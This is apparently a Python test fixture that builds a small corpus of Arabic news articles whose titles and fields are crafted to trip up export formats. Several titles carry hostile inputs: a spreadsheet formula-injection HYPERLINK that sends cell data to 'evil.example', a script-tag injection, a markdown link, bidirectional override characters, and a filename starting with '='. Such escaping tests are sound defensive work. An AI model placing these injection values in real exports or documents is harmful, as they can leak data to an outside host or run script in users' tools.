"""A corpus whose texts try everything a form of export could stumble over."""

from __future__ import annotations

import hashlib
from pathlib import Path

from store.database import open_writer
from store.models import (
    Analysis,
    Block,
    Cleaned,
    DateMention,
    Document,
    Event,
    Mention,
    MentionType,
    Published,
    Sentence,
    Source,
    Title,
)

TITLES = (
    '=HYPERLINK("http://evil.example/?"&A1,"اضغط هنا")',
    "<script>alert('خبر')</script> & <b>عاجل</b>",
    "عنوان | فيه * نجوم _ و [روابط](http://evil.example) `رمز`",
    "'مقتبس' يبدأ بفاصلة عليا",
    '+1 -2 @3 "نص" ,؛, \u202eمعكوس\u202c',
)
BODY = '- قال زيد بن علي في بغداد يوم 9 ديسمبر 2021 إن <الأمر> | انتهى.\n1. سطر ثان، "بين" أقواس & غيرها = كذا.'


def analysis(number: int, title: str) -> Analysis:
    """A document with two mentions, a date and an event in its first body sentence."""
    text = f"{title}\n\n{BODY}\n"
    body = len(title) + 2
    second = text.index("1. سطر")

    def mention(surface: str, kind: MentionType, entity: str | None) -> Mention:
        start = text.index(surface, body)
        return Mention(start, start + len(surface), surface, kind, surface, entity, 0.9, "test", "1", "given", "")

    said = "9 ديسمبر 2021"
    start = text.index(said, body)
    date = DateMention(
        start, start + len(said), said, "DATE", "2021-12-09", None, "2021-12-09", "2021-12-09", "day", "asserted", None,
        "given", "test", "1",
    )  # fmt: skip
    told = ("زيد بن علي", "بغداد")
    event = Event(
        body, second - 1, "2021-12-09", "2021-12-09", "2021-12-09", "day", "asserted", told, date.start, date.end
    )
    return Analysis(
        Document(text, Source(f"=file{number}|<a>.txt", "text", "1"), hashlib.sha256(text.encode()).hexdigest()),
        Cleaned(
            (Block(0, len(title), "title", "test"), Block(body, len(text) - 1, "body", "test")),
            Title(title, 0, len(title), "line"),
            "@منفذ",
            "test",
            (),
        ),
        Published("2021-12-14", "given", "test"),
        (Sentence(0, len(title)), Sentence(body, second - 1), Sentence(second, len(text) - 1)),
        (mention("زيد بن علي", "PER", None), mention("بغداد", "LOC", "Q1530")),
        (date,),
        (event,),
    )


def build(path: Path) -> Path:
    """The corpus at `path`, an article for each of TITLES."""
    with open_writer(path) as writer:
        for number, title in enumerate(TITLES):
            writer.add(analysis(number, title))
    return path
